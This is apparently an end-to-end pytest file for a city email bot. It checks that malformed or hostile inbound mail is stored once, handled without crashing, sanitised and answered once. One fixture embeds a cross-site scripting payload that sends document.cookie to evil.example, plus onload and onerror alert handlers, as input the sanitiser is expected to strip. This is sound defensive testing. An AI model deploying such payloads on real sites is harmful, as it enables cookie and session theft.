"""Bad mail against the real servers: no crash, nothing lost, nothing answered twice."""

from __future__ import annotations

import os
from email.message import EmailMessage
from email.utils import make_msgid

import pytest
from sqlalchemy import select

from bot.channels.email.models import EmailInbound
from tests.channels.email.mailkit import EmailHarness, citizen, make_mail
from tools.standins.email import DOMAIN

pytestmark = pytest.mark.e2e

FAQ = "When is my bin collected?"


def _raw(sender: str, subject: str, headers: str, body: bytes) -> bytes:
    head = (
        f"From: {sender}\r\nTo: city@{DOMAIN}\r\nSubject: {subject}\r\nMessage-ID: {make_msgid(domain=DOMAIN)}\r\n"
        f"Date: Mon, 23 Nov 2026 10:00:00 +0000\r\n{headers}"
    )
    return head.encode("ascii") + b"\r\n" + body


def _bad_mails() -> dict[str, tuple[str | None, bytes]]:
    """name -> (sender, raw bytes)."""
    mails: dict[str, tuple[str | None, bytes]] = {}

    sender = citizen()
    mails["malformed_mime"] = (sender, _raw(
        sender, "broken", 'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="zzz"\r\n',
        b"--zzz\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        b"!!!this is not base64@@@\r\n--zz\r\nContent-Type: text/plain\r\n\r\nWhen is my bin collected?\r\n",
    ))

    sender = citizen()
    big = EmailMessage()
    big["From"], big["To"], big["Subject"] = sender, f"city@{DOMAIN}", "photo of the pothole"
    big["Message-ID"] = make_msgid(domain=DOMAIN)
    big.set_content(FAQ)
    big.add_attachment(os.urandom(25 * 1024 * 1024), maintype="application", subtype="octet-stream",
                       filename="pothole.raw")
    mails["attachment_25mb"] = (sender, bytes(big))

    sender = citizen()
    mails["undeclared_charset"] = (sender, _raw(
        sender, "bins", "MIME-Version: 1.0\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: 8bit\r\n",
        "Bonjour, je suis au caf\xe9 \u2013 when is my bin collected?\r\n".encode("cp1252"),
    ))

    sender = citizen()
    mails["html_only_scripts"] = (sender, _raw(
        sender, "bins", "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n",
        b"<html><head><script>fetch('https://evil.example/'+document.cookie)</script></head>"
        b"<body onload=\"alert(1)\"><p>When is my <b>bin</b> collected?</p><img src=x onerror=alert(2)></body></html>",
    ))

    mails["missing_from"] = (None, (
        f"To: city@{DOMAIN}\r\nSubject: no sender {os.urandom(4).hex()}\r\nMessage-ID: {make_msgid(domain=DOMAIN)}\r\n"
        f"\r\n{FAQ}\r\n"
    ).encode())

    sender = citizen()
    no_id = make_mail(sender, f"city@{DOMAIN}", "bins", FAQ, message_id=None)
    mails["missing_message_id"] = (sender, bytes(no_id))

    sender = citizen()
    mails["one_mb_single_line"] = (sender, _raw(
        sender, "long", "Content-Type: text/plain; charset=us-ascii\r\n", b"x" * 1_000_000 + b"\r\n",
    ))
    return mails


def test_bad_mail_is_stored_and_handled_without_crashing(email_harness: EmailHarness) -> None:
    mails = _bad_mails()
    for sender, raw in mails.values():
        email_harness.deliver(raw, envelope_sender=sender or "")
    email_harness.poll()
    email_harness.poll()  # a second pass finds nothing new and answers nothing twice

    with email_harness.sessions() as session:
        rows = {}
        for name, (sender, raw) in mails.items():
            if sender is None:
                subject = raw.split(b"Subject: ", 1)[1].split(b"\r\n", 1)[0].decode()
                found = session.scalars(select(EmailInbound).where(EmailInbound.subject == subject)).all()
            else:
                found = session.scalars(select(EmailInbound).where(EmailInbound.sender == sender)).all()
            assert len(found) == 1, name  # stored, once
            rows[name] = found[0]
            assert rows[name].status == "handled", (name, rows[name].status, rows[name].outcome)

    assert rows["missing_from"].outcome == "no_reply:missing_from"
    assert "script" not in rows["html_only_scripts"].body and "bin" in rows["html_only_scripts"].body
    assert "café" in rows["undeclared_charset"].body
    assert [a["size"] for a in rows["attachment_25mb"].attachments] == [25 * 1024 * 1024]
    assert len(rows["one_mb_single_line"].body) >= 1_000_000
    assert rows["missing_message_id"].message_key.endswith("@missing-message-id.invalid>")

    for name, (sender, _raw_mail) in mails.items():
        if sender is None:
            continue
        replies = email_harness.received_by(sender)
        assert len(replies) == 1, (name, rows[name].outcome)
        assert replies[0]["Auto-Submitted"] == "auto-replied"
